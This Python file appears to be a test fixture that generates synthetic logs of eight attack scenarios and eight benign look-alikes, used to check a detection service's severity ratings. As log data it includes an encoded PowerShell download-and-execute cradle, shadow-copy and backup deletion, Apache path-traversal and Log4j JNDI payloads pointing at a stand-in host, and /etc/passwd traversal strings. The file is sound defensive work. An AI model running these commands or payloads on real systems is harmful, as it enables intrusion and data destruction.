# SPDX-License-Identifier: Apache-2.0
"""What is planted in the ordinary traffic: eight attacks over several devices, and eight harmless things that look like
them. Each story is told as lines; `wanted` is the severity the service must propose by itself.

A story's candidate is found by `marker`, the value of one of its entities. A look-alike must have no candidate with its
marker above Informational."""
import base64
from dataclasses import dataclass
from typing import Callable

import lines as L

SCANNER_UA = "Mozilla/5.0 (compatible; Nimbostratus-Bot/1.3)"


@dataclass
class Story:
    name: str
    tenant: str
    wanted: str          # emergency critical warning informational; harmless for a look-alike
    marker: str
    title_ja: str
    title_en: str
    tell: Callable


STORIES = []


def story(name, tenant, wanted, marker, ja, en):
    def keep(tell):
        STORIES.append(Story(name, tenant, wanted, marker, ja, en, tell))
        return tell
    return keep


def encoded(text):
    return base64.b64encode(text.encode("utf-16le")).decode()


@story("ransomware", "aoba", "emergency", "aoba-fs1.aoba.example", "ファイルサーバーのランサムウェア", "Ransomware on the file server")
def ransomware(t, d="aoba"):
    pc, fs, ip = "aoba-pc07.aoba.example", "aoba-fs1.aoba.example", "10.10.20.16"
    word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"
    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    who = "AOBA\\n.odagiri"
    yield t, L.squid(t, d, "aoba-proxy1", ip, "GET", "http://invoice-portal.example/2026/seikyusho.docm", 200, 84211, "n.odagiri", mime="application/vnd.ms-word.document.macroEnabled.12", peer="203.0.113.241")
    yield t + 50, L.process(t + 50, d, pc, shell, f"powershell.exe -NoP -W Hidden -Enc {encoded('IEX (New-Object Net.WebClient).DownloadString(1)')}", word, f'"{word}" /n seikyusho.docm', who)
    yield t + 58, L.squid(t + 58, d, "aoba-proxy1", ip, "CONNECT", "files-sync.example:443", 200, 220481, "n.odagiri", mime="-", result="TCP_TUNNEL", peer="203.0.113.242")
    yield t + 300, L.fortigate(t + 300, d, "aoba-fw1", srcip=ip, srcport=50211, srcintf="lan", dstip="10.10.1.20", dstport=445, dstintf="server", sessionid=700001, proto=6, action="close", policyid=20, service="SMB",
                               duration=90, sentbyte=61234, rcvdbyte=18220, sentpkt=88, rcvdpkt=70)
    yield t + 301, L.security(t + 301, d, fs, 4624, SubjectUserName="-", SubjectDomainName="-", SubjectLogonId="0x0", TargetUserName="n.odagiri", TargetDomainName="AOBA", TargetLogonId="0x7a11", LogonType=3,
                              LogonProcessName="NtLmSsp", AuthenticationPackageName="NTLM", WorkstationName="AOBA-PC07", IpAddress=ip, IpPort=50211)
    cmd = "C:\\Windows\\System32\\cmd.exe"
    for i, (image, line) in enumerate([("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"), ("C:\\Windows\\System32\\wbadmin.exe", "wbadmin delete catalog -quiet"),
                                       ("C:\\Windows\\System32\\bcdedit.exe", "bcdedit /set {default} recoveryenabled no")]):
        yield t + 420 + i, L.process(t + 420 + i, d, fs, image, line, cmd, "cmd.exe /c C:\\Users\\Public\\run.bat", who, integrity="High")
    for i in range(40):
        yield t + 430 + i * 0.5, L.sysmon(t + 430 + i * 0.5, d, fs, 11, ProcessGuid="{5770385f-0000-0000-0000-000000000077}", ProcessId=4711, Image="C:\\Users\\Public\\svc.exe",
                                          TargetFilename=f"D:\\share\\sekkei\\zumen_{i:03d}.dwg.locked", CreationUtcTime="2026-11-20 00:00:00.000", User=who)
    yield t + 452, L.sysmon(t + 452, d, fs, 11, ProcessGuid="{5770385f-0000-0000-0000-000000000077}", ProcessId=4711, Image="C:\\Users\\Public\\svc.exe", TargetFilename="D:\\share\\README_DECRYPT.txt",
                            CreationUtcTime="2026-11-20 00:00:00.000", User=who)


@story("dcsync", "harbor", "emergency", "10.20.20.31", "パスワードスプレー後の DCSync", "DCSync after a password spray")
def dcsync(t, d="harbor"):
    dc, ip = "harbor-dc1.harbor.example", "10.20.20.31"
    for i in range(26):
        at = t + i * 9
        yield at, L.security(at, d, dc, 4625, SubjectUserName="-", SubjectDomainName="-", TargetUserName=f"staff{i:02d}", TargetDomainName="HARBOR", Status="0xc000006d", SubStatus="0xc000006a", FailureReason="%%2313",
                             LogonType=3, AuthenticationPackageName="NTLM", WorkstationName="HARBOR-PC22", IpAddress=ip, IpPort=51000 + i)
    yield t + 240, L.security(t + 240, d, dc, 4624, SubjectUserName="-", SubjectDomainName="-", SubjectLogonId="0x0", TargetUserName="staff17", TargetDomainName="HARBOR", TargetLogonId="0x9c20", LogonType=3,
                              LogonProcessName="NtLmSsp", AuthenticationPackageName="NTLM", WorkstationName="HARBOR-PC22", IpAddress=ip, IpPort=51100)
    yield t + 400, L.panos_traffic(t + 400, d, "harbor-fw1", ip, "10.20.1.10", 51200, 135, "msrpc", "allow", 20310, 911230, rule="inside", user="harbor\\staff17")
    for guid in ("1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2"):
        yield t + 402, L.security(t + 402, d, dc, 4662, SubjectUserSid="S-1-5-21-1-2-3-1117", SubjectUserName="staff17", SubjectDomainName="HARBOR", SubjectLogonId="0x9c20", ObjectServer="DS", ObjectType="%{19195a5b-6da0-11d0-afd3-00c04fd930c9}",
                                  ObjectName="%{harbor.example}", OperationType="Object Access", AccessList="%%7688", AccessMask="0x100", Properties="%%7688 {" + guid + "}", IpAddress=ip)


@story("web-exploit", "harbor", "critical", "203.0.113.231", "公開サーバーへの攻撃（遮断されず）", "Exploit of a public server, not blocked")
def web_exploit(t, d="harbor"):
    src, web = "203.0.113.231", "10.20.30.20"
    path = "/cgi-bin/.%2e/.%2e/.%2e/bin/sh"
    http = {"hostname": "www.harbor.example", "url": path, "http_user_agent": "curl/8.5.0", "http_method": "POST", "protocol": "HTTP/1.1", "status": 200, "length": 14022}
    for i in range(3):
        at = t + i * 4
        yield at, L.alert(at, d, "harbor-ids1", src, 40100 + i, web, 80, 2034124, "EXPLOIT Apache HTTP Server path traversal to remote code execution (CVE-2021-41773)", "Web Application Attack", 1, "allowed", http,
                          metadata={"cve": ["CVE-2021-41773"]})
        yield at + 0.2, L.web(at + 0.2, d, "harbor-web1", src, "POST", path, 200, 14022, "curl/8.5.0", "apache")
    yield t + 9, L.panos_threat(t + 9, d, "harbor-fw1", src, "192.0.2.20", 40101, 80, "web-browsing", "alert", "Apache HTTP Server Path Traversal Vulnerability", 91752, "critical", "www.harbor.example" + path)


@story("beacon", "aoba", "critical", "cdn-telemetry-sync.example", "許可された通信での C2 疑い", "Suspected command and control on allowed traffic")
def beacon(t, d="aoba"):
    ip = "10.10.20.33"
    for i in range(30):
        at = t + i * 60
        yield at, L.zeek(at, d, "aoba-zeek1", "dns", ip, 52000 + i, "10.10.1.10", 53, proto="udp", trans_id=i, query="cdn-telemetry-sync.example", qclass=1, qclass_name="C_INTERNET", qtype=1, qtype_name="A", rcode=0,
                         rcode_name="NOERROR", AA=False, TC=False, RD=True, RA=True, Z=0, answers=["203.0.113.244"], TTLs=[60.0], rejected=False)
        yield at + 0.4, L.squid(at + 0.4, d, "aoba-proxy1", ip, "CONNECT", "cdn-telemetry-sync.example:443", 200, 1210, "t.kato", mime="-", result="TCP_TUNNEL", peer="203.0.113.244")


@story("vpn-brute-force", "aoba", "warning", "203.0.113.222", "VPN への総当たり（成功なし）", "Brute force on the VPN, without success")
def vpn_brute(t, d="aoba"):
    src = "203.0.113.222"
    for i in range(40):
        at = t + i * 3
        yield at, L.fortigate(at, d, "aoba-fw1", "vpn", logid="0101039426", type="event", subtype="vpn", level="alert", logdesc="SSL VPN login fail", action="ssl-login-fail", tunneltype="ssl-web", tunnelid=0, remip=src,
                              user=f"user{i % 13:02d}", group="N/A", dst_host="N/A", reason="sslvpn_login_unknown_user", msg="SSL user failed to logged in")
    for i in range(20):
        at = t + 5 + i * 4
        yield at, L.auth(at, d, "aoba-web1", "sshd", 9000 + i, f"Failed password for invalid user admin{i} from {src} port {42000 + i} ssh2")


@story("adware", "harbor", "warning", "harbor-pc18.harbor.example", "アドウェアの導入（検疫済み）", "Adware installer, quarantined")
def adware(t, d="harbor"):
    ip, pc = "10.20.20.27", "harbor-pc18.harbor.example"
    yield t, L.squid(t, d, "harbor-proxy1", ip, "GET", "http://free-pdf-toolbar.example/dl/FreePdfToolbarSetup.exe", 200, 2412331, "p.dubois", mime="application/x-msdownload", peer="203.0.113.245")
    yield t + 40, L.process(t + 40, d, pc, "C:\\Users\\p.dubois\\Downloads\\FreePdfToolbarSetup.exe", '"C:\\Users\\p.dubois\\Downloads\\FreePdfToolbarSetup.exe" /silent', "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", "HARBOR\\p.dubois")
    data = {"Product Name": "Microsoft Defender Antivirus", "Threat ID": "2147512345", "Threat Name": "PUA:Win32/FreePdfToolbar", "Severity Name": "Low", "Category Name": "Potentially Unwanted Software", "Action Name": "Quarantine",
            "Path": "file:_C:\\Users\\p.dubois\\Downloads\\FreePdfToolbarSetup.exe", "Process Name": "C:\\Windows\\explorer.exe", "Detection User": "HARBOR\\p.dubois"}
    yield t + 44, L.windows(t + 44, d, pc, "Microsoft-Windows-Windows Defender/Operational", 1116, "Microsoft-Windows-Windows Defender", data)


@story("blocked-scan", "aoba", "informational", "198.51.100.230", "遮断済みの攻撃探索", "Exploit scan, all blocked")
def blocked_scan(t, d="aoba"):
    src = "198.51.100.230"
    for i in range(30):
        at = t + i * 2
        http = {"hostname": "192.0.2.10", "url": f"/vendor/phpunit/src/Util/PHP/eval-stdin.php?{i}", "http_user_agent": SCANNER_UA, "http_method": "POST", "protocol": "HTTP/1.1", "length": 0}
        yield at, L.alert(at, d, "aoba-ids1", src, 50000 + i, "10.10.30.20", 80, 2025000, "EXPLOIT PHPUnit eval-stdin remote code execution attempt", "Attempted Administrator Privilege Gain", 1, "blocked", http)
        yield at + 0.1, L.fortigate(at + 0.1, d, "aoba-fw1", "ips", logid="0419016384", type="utm", subtype="ips", eventtype="signature", level="alert", severity="critical", srcip=src, srccountry="Reserved", dstip="192.0.2.10",
                                    srcintf="wan1", dstintf="dmz", sessionid=800000 + i, action="dropped", proto=6, service="HTTP", policyid=3, attack="PHPUnit.Eval-stdin.PHP.Remote.Code.Execution", srcport=50000 + i,
                                    dstport=80, direction="outgoing", attackid=45765, profile="protect_http_server", msg="applications3: PHPUnit.Eval-stdin.PHP.Remote.Code.Execution")


@story("not-vulnerable", "harbor", "informational", "198.51.100.231", "影響を受けない製品への攻撃", "Exploit of a product that is not there")
def not_vulnerable(t, d="harbor"):
    src, web = "198.51.100.231", "10.20.30.21"
    for i in range(4):
        at = t + i * 7
        http = {"hostname": "shop.harbor.example", "url": "/?x=${jndi:ldap://198.51.100.231/a}", "http_user_agent": "${jndi:ldap://198.51.100.231/a}", "http_method": "GET", "protocol": "HTTP/1.1", "status": 404, "length": 162}
        yield at, L.alert(at, d, "harbor-ids1", src, 41000 + i, web, 80, 2034647, "EXPLOIT Apache Log4j JNDI lookup in request (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1, "allowed", http, metadata={"cve": ["CVE-2021-44228"]})
        yield at + 0.1, L.web(at + 0.1, d, "harbor-web2", src, "GET", "/?x=${jndi:ldap://198.51.100.231/a}", 404, 162, "${jndi:ldap://198.51.100.231/a}", "nginx")


# ---- harmless, but looks like it ----

@story("authorised-scanner", "aoba", "harmless", "10.10.9.5", "許可された脆弱性診断", "Authorised vulnerability scan")
def authorised_scanner(t, d="aoba"):
    for i in range(40):
        at = t + i * 3
        http = {"hostname": "www.aoba.example", "url": f"/cgi-bin/test-{i}.cgi?a=../../../../etc/passwd", "http_user_agent": "Aoba-Weekly-Scan", "http_method": "GET", "protocol": "HTTP/1.1", "status": 404, "length": 150}
        yield at, L.alert(at, d, "aoba-ids1", "10.10.9.5", 53000 + i, "10.10.30.20", 80, 2009000 + i, f"EXPLOIT Generic path traversal attempt {i}", "Web Application Attack", 1, "allowed", http)
        yield at + 0.1, L.web(at + 0.1, d, "aoba-web1", "10.10.9.5", "GET", f"/cgi-bin/test-{i}.cgi?a=../../../../etc/passwd", 404, 150, "Aoba-Weekly-Scan")


@story("backup-job", "harbor", "harmless", "harbor-bk1.harbor.example", "予定されたバックアップ処理", "Scheduled backup job")
def backup_job(t, d="harbor"):
    host = "harbor-bk1.harbor.example"
    yield t, L.process(t, d, host, "C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /for=E: /oldest /quiet", "C:\\Program Files\\HarborBackup\\agent.exe", '"C:\\Program Files\\HarborBackup\\agent.exe" --job nightly',
                       "HARBOR\\svc-backup", integrity="High")
    yield t + 30, L.panos_traffic(t + 30, d, "harbor-fw1", "10.20.1.40", "10.20.1.41", 52100, 10000, "ndmp", "allow", 900213, 40021331, rule="inside", user="harbor\\svc-backup")


@story("admin-powershell", "aoba", "harmless", "aoba-admin1.aoba.example", "管理者の PowerShell", "An administrator's PowerShell")
def admin_powershell(t, d="aoba"):
    host = "aoba-admin1.aoba.example"
    shell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
    for i in range(3):
        at = t + i * 600
        yield at, L.process(at, d, host, shell, f"powershell.exe -NoProfile -EncodedCommand {encoded('Get-ADUser -Filter * | Export-Csv inventory.csv')}", "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -s Schedule", "AOBA\\adm.kato", integrity="High")
        yield at + 2, L.security(at + 2, d, "aoba-dc1.aoba.example", 4624, SubjectUserName="-", SubjectDomainName="-", SubjectLogonId="0x0", TargetUserName="adm.kato", TargetDomainName="AOBA", TargetLogonId="0x55aa", LogonType=3,
                                 LogonProcessName="Kerberos", AuthenticationPackageName="Kerberos", WorkstationName="-", IpAddress="10.10.9.10", IpPort=50100 + i)


@story("update-beacon", "harbor", "harmless", "update.vendor.example", "定期的な更新確認", "Regular check for updates")
def update_beacon(t, d="harbor"):
    for i in range(40):
        at = t + i * 60
        yield at, L.squid(at, d, "harbor-proxy1", "10.20.20.21", "GET", "http://update.vendor.example/v2/check", 304, 312, "k.jensen", mime="-", result="TCP_REFRESH_UNMODIFIED", peer="203.0.113.246")
        yield at + 0.2, L.panos_traffic(at + 0.2, d, "harbor-fw1", "10.20.1.60", "203.0.113.246", 53000 + i, 80, "web-browsing", "allow", 820, 412)


@story("mistyped-password", "aoba", "harmless", "10.10.20.19", "パスワードの打ち間違い", "A mistyped password")
def mistyped(t, d="aoba"):
    dc = "aoba-dc1.aoba.example"
    for i in range(4):
        at = t + i * 8
        yield at, L.security(at, d, dc, 4625, SubjectUserName="-", SubjectDomainName="-", TargetUserName="m.ito", TargetDomainName="AOBA", Status="0xc000006d", SubStatus="0xc000006a", FailureReason="%%2313", LogonType=2,
                             AuthenticationPackageName="Negotiate", WorkstationName="AOBA-PC10", IpAddress="10.10.20.19", IpPort=0)
    yield t + 40, L.security(t + 40, d, dc, 4624, SubjectUserName="-", SubjectDomainName="-", SubjectLogonId="0x0", TargetUserName="m.ito", TargetDomainName="AOBA", TargetLogonId="0x6622", LogonType=2, LogonProcessName="User32",
                             AuthenticationPackageName="Negotiate", WorkstationName="AOBA-PC10", IpAddress="10.10.20.19", IpPort=0)
    yield t + 60, L.squid(t + 60, d, "aoba-proxy1", "10.10.20.19", "CONNECT", "mail.example.com:443", 200, 20112, "m.ito", mime="-", result="TCP_TUNNEL")


@story("monitoring", "harbor", "harmless", "10.20.9.9", "監視サーバーの巡回", "The monitoring server's round")
def monitoring(t, d="harbor"):
    for i in range(60):
        at = t + i * 0.5
        yield at, L.panos_traffic(at, d, "harbor-fw1", "10.20.9.9", f"10.20.1.{10 + i % 40}", 54000 + i, [22, 80, 161, 443, 3389][i % 5], "ping" if i % 5 == 2 else "ssl", "allow", 120, 90, rule="monitoring")
        yield at + 0.1, L.zeek(at + 0.1, d, "harbor-zeek1", "conn", "10.20.9.9", 54000 + i, f"10.20.1.{10 + i % 40}", [22, 80, 161, 443, 3389][i % 5], proto="tcp", conn_state="S0" if i % 3 else "SF", duration=0.1, orig_bytes=0, resp_bytes=0,
                               local_orig=True, local_resp=True, missed_bytes=0, history="S", orig_pkts=1, orig_ip_bytes=60, resp_pkts=0, resp_ip_bytes=0)


@story("denied-listed-scan", "aoba", "harmless", "203.0.113.250", "遮断された既知スキャナ", "A listed scanner, denied at the edge")
def denied_listed(t, d="aoba"):
    for i in range(120):
        at = t + i
        yield at, L.fortigate(at, d, "aoba-fw1", srcip="203.0.113.250", srcport=60000 + i % 900, srcintf="wan1", dstip=f"192.0.2.{10 + i % 3}", dstport=[22, 23, 80, 443, 3389][i % 5], dstintf="dmz", sessionid=900000 + i, proto=6,
                              action="deny", policyid=0, service="tcp/other", duration=0, sentbyte=0, rcvdbyte=0)


@story("patch-night", "harbor", "harmless", "harbor-wsus1.harbor.example", "更新プログラムの適用", "Patch night")
def patch_night(t, d="harbor"):
    host = "harbor-wsus1.harbor.example"
    for i in range(6):
        at = t + i * 20
        yield at, L.process(at, d, host, "C:\\Windows\\System32\\wusa.exe", f"wusa.exe C:\\patches\\kb50{i:05d}.msu /quiet /norestart", "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -s Schedule", "NT AUTHORITY\\SYSTEM", integrity="System")
    yield t + 200, L.windows(t + 200, d, host, "System", 1074, "User32", {"param1": "C:\\Windows\\System32\\svchost.exe", "param2": host, "param3": "Operating System: Service pack (Planned)", "param5": "restart", "param7": "NT AUTHORITY\\SYSTEM"})
